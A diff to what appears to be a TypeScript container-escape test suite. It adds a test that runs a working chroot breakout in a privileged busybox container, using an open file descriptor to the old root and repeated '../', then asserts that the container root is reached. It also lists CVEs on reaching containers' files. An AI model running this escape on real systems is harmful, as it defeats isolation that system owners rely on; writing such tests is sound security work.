@@ -147,6 +147,19 @@ export const runEscapes: readonly Escape[] = [
     },
   },
   {
+    known: "chroot(2)",
+    what: "a folder kept open leads above a root that was changed meanwhile, up to the root of all mounts",
+    async attempt(lab) {
+      const prepare = "mkdir -p /x/bin /x/proc && cp /bin/busybox /x/bin/ && mount -t proc proc /x/proc && exec 9</";
+      const above = `cd /proc/self/fd/9 && cd ${"../".repeat(16)} && /bin/busybox ls -a; ${lab.look()}`;
+      const script = `${prepare}; chroot /x /bin/busybox sh -c '${above}'`;
+      const { stdout } = await lab.run("run", "--rm", "--privileged", "busybox", "sh", "-c", script);
+      // It has come out of /x, and is in the container's root.
+      expect(stdout.split("\n")).toContain("x");
+      expect(stdout.split("\n")).toContain(".dockerenv");
+    },
+  },
+  {
     known: "CVE-2021-41091, CVE-2021-41103, CVE-2024-25621",
     what: "somebody without rights on the host goes into containers' files",
     async attempt(lab) {
